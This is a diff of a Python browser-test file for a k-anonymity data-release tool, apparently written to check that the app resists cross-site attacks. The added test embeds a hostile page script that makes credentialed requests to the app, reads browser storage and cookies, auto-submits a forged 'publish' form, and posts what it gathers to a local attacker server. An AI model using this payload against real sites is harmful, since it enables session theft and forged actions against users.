@@ -2,21 +2,24 @@
 
 from __future__ import annotations
 
+import json
 import os
 import re
 import subprocess
 import sys
+import threading
 import time
 from collections.abc import Callable, Iterator
 from contextlib import contextmanager
 from functools import partial
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
 from pathlib import Path
 from typing import Any
 
 import duckdb
 import pytest
 from command_line import SPEC, make_clinic
-from explorers import explored, make_uneven
+from explorers import Somebody, explored, make_uneven, token_of
 
 import kanon_sql
 
@@ -135,7 +138,7 @@ def test_from_a_csv_file_to_a_published_release(
         page.wait_for_selector("#risk .part")
         refuse_violations(page)
         with page.expect_download() as saving:
-            page.get_by_role("link", name="Save the spec").click()
+            page.get_by_role("button", name="Save the spec").click()
         assert kanon_sql.Spec.parse(Path(saving.value.path()).read_text()).quasi_identifiers["age"].weight == 3
         page.on("dialog", lambda dialog: dialog.accept())
         page.get_by_role("button", name="Publish the release").click()
@@ -256,7 +259,7 @@ def countries(clinic_file: Path) -> tuple[Path, kanon_sql.Spec]:
 def tree_in_use(page: Any) -> Any:
     """The hierarchy that the saved spec has."""
     with page.expect_download() as saving:
-        page.get_by_role("link", name="Save the spec").click()
+        page.get_by_role("button", name="Save the spec").click()
     return kanon_sql.Spec.parse(Path(saving.value.path()).read_text()).to_dict()["quasi_identifiers"]["country"]["tree"]
 
 
@@ -561,6 +564,134 @@ def test_a_release_is_certified_and_a_warning_read(chromium: Any, clinic_file: P
         assert overflow(page) <= 0
 
 
+# --- Another user of the machine -----------------------------------------------------------
+
+LURE = """<!DOCTYPE html><title>lure</title><body><iframe name="framed"></iframe><script>
+const told = [], target = "TARGET", visit = "VISIT", credentials = "include", method = "POST";
+const ways = [
+  { credentials }, { credentials, mode: "no-cors" }, { credentials, method, headers: { "X-Kanon-Key": "x" } },
+  { credentials, method, mode: "no-cors", body: new URLSearchParams({ asked: "" }) },
+];
+const paths = ["/", "/visits", "/enter", visit, visit + "spec.yml", visit + "publish"];
+const tries = paths.flatMap((path) => ways.map((way) => fetch(target + path, way)
+  .then((answer) => answer.text()).then((text) => { if (text) told.push(text); }, () => {})));
+for (const store of [sessionStorage, localStorage]) told.push(...Object.values(store));
+told.push(...[document.cookie, document.referrer, window.name, window.opener ? "opener" : ""].filter((text) => text));
+const form = document.createElement("form");
+Object.assign(form, { action: target + visit + "publish", method, target: "framed" });
+document.body.append(form);
+form.submit();
+const body = () => JSON.stringify(told), over = () => { document.title = "done"; };
+Promise.all(tries).then(() => fetch("/told", { method, body: body() })).then(over);
+</script></body>"""
+"""A page that tries all that a page can to read or to move another one on this machine."""
+
+
+@contextmanager
+def hostile(target: str, visit: str) -> Iterator[tuple[str, list[tuple[str, dict[str, str], str]]]]:
+    """A server of somebody else on another port of this machine: its address, and all that it was sent."""
+    got: list[tuple[str, dict[str, str], str]] = []
+
+    class Lure(BaseHTTPRequestHandler):
+        def do_GET(self) -> None:
+            body = self.rfile.read(int(self.headers.get("content-length", "0"))).decode()
+            got.append((self.path, dict(self.headers), body))
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.send_header("set-cookie", "hers=1")
+            self.end_headers()
+            self.wfile.write(LURE.replace("TARGET", target).replace("VISIT", visit).encode())
+
+        do_POST = do_GET
+
+        def log_message(self, *_: object) -> None:
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Lure)
+    thread = threading.Thread(target=server.serve_forever)
+    thread.start()
+    try:
+        yield f"http://127.0.0.1:{server.server_port}/", got
+    finally:
+        server.shutdown()
+        thread.join()
+        server.server_close()
+
+
+def test_a_page_on_another_port_is_sent_nothing_that_lets_it_in(chromium: Any, clinic_file: Path) -> None:
+    """It is opened in a tab beside the page, from the page's own tab, and then replays all that it was sent."""
+    connect = partial(kanon_sql.connect, clinic_file)
+    with explored(connect, kanon_sql.Spec.parse(TEXT), may_publish=True) as somebody:
+        context = chromium.new_context()
+        context.set_default_timeout(WAIT)
+        page = context.new_page()
+        page.goto(somebody.address)
+        answered(page, "5-anonymity")
+        key, visit = (page.evaluate(f"() => sessionStorage.getItem('{name}')") for name in ("key", "visit"))
+        done = "() => document.title === 'done'"
+        with hostile(f"http://{somebody.host}", visit) as (lure, got):
+            other = context.new_page()
+            other.goto(lure)
+            other.wait_for_function(done)
+            with context.expect_page() as opening:
+                page.evaluate(f"() => {{ window.open('{lure}opened'); }}")
+            opening.value.wait_for_function(done)
+            empty = context.new_page()
+            empty.goto(somebody.address.partition("#")[0])
+            empty.wait_for_selector("[role=alert]:has-text('needs the whole address')")
+            empty.evaluate(f"() => {{ location.href = '{lure}after'; }}")
+            empty.wait_for_function(done)
+            page.evaluate(f"() => {{ location.href = '{lure}same-tab'; }}")
+            page.wait_for_function(done)
+            told = [json.loads(body) for path, _, body in got if path == "/told"]
+            assert len(told) == 4
+            assert {word for words in told for word in words} <= {"hers=1"}, "its own cookie, and nothing else"
+            secrets = {key, visit.strip("/"), token_of(somebody.address), token_of(somebody.told[0])}
+            own = ("host", "origin", "content-length", "content-type", "connection", "accept-encoding")
+            for path, headers, body in got:
+                assert not [word for word in secrets if word in f"{path} {headers} {body}"]
+                sent = {name.replace("-", "_"): text for name, text in headers.items() if name.lower() not in own}
+                thief = Somebody(somebody.address)
+                for replayed in (sent, {**sent, "Sec_Fetch_Site": "same-origin"}):
+                    assert thief.send(visit, **replayed).status == 403
+                    assert thief.send("/visits", {}, **replayed).status == 403
+                    assert thief.send(f"{visit}publish", {}, **replayed).status == 403
+        page.go_back()
+        answered(page, "5-anonymity")
+        context.close()
+    with duckdb.connect(str(clinic_file), read_only=True) as connection:
+        assert ("visits_release",) not in connection.execute("SELECT table_name FROM duckdb_tables()").fetchall()
+
+
+def test_the_token_is_in_no_address_that_a_browser_keeps_or_sends(chromium: Any, clinic_file: Path) -> None:
+    connect = partial(kanon_sql.connect, clinic_file, read_only=True)
+    with explored(connect, kanon_sql.Spec.parse(TEXT)) as somebody:
+        context, asked = chromium.new_context(), []
+        page = context.new_page()
+        page.on("request", lambda request: asked.append((request.url, request.post_data, request.all_headers())))
+        page.goto(somebody.address)
+        answered(page, "5-anonymity")
+        key, visit = (page.evaluate(f"() => sessionStorage.getItem('{name}')") for name in ("key", "visit"))
+        assert page.evaluate("() => [location.href, history.length]")[0] == somebody.address.partition("#")[0]
+        assert context.cookies() == []
+        carriers = [body for _, body, _ in asked if body and token_of(somebody.address) in body]
+        assert carriers == [f"token={token_of(somebody.address)}"], "once, to the server itself"
+        for url, _, headers in asked:
+            assert token_of(somebody.address) not in url.partition("#")[0]
+            assert key not in url
+            assert not {"cookie", "referer"} & headers.keys()
+        page.get_by_label("k of k-anonymity").fill("7")
+        answered(page, "7-anonymity")
+        page.reload()
+        answered(page, "7-anonymity")
+        assert page.evaluate("() => sessionStorage.getItem('visit')") == visit, "the page stays as it was"
+        page.goto(somebody.address)  # of the history, or typed once more: the tab is known
+        answered(page, "7-anonymity")
+        page.goto(somebody.told[-1].rpartition(" ")[2])  # the terminal's next one: a page of its own
+        answered(page, "5-anonymity")
+        context.close()
+
+
 # --- What goes wrong -----------------------------------------------------------------------
 
 
@@ -570,14 +701,18 @@ def test_two_tabs_have_controls_of_their_own(chromium: Any, clinic_file: Path) -
         answered(first, "5-anonymity")
         second = first.context.new_page()
         second.set_default_timeout(WAIT)
-        second.goto(somebody.address.partition("?")[0])
+        second.goto(somebody.address)
+        second.wait_for_selector("[role=alert]:has-text('was used before')")
+        second.goto(somebody.told[0].rpartition(" ")[2])
         first.get_by_label("k of k-anonymity").fill("9")
         second.get_by_label("k of k-anonymity").fill("7")
         answered(first, "9-anonymity")
         answered(second, "7-anonymity")
         first.get_by_label("rows that may be suppressed").fill("3")
         answered(first, "9-anonymity")
-        assert first.url != second.url
+        first.reload()
+        answered(first, "9-anonymity")
+        assert {first.url, second.url} == {somebody.address.partition("#")[0]}
 
 
 def test_a_search_of_minutes_is_stopped_at_the_best_so_far(chromium: Any, clinic_file: Path) -> None:
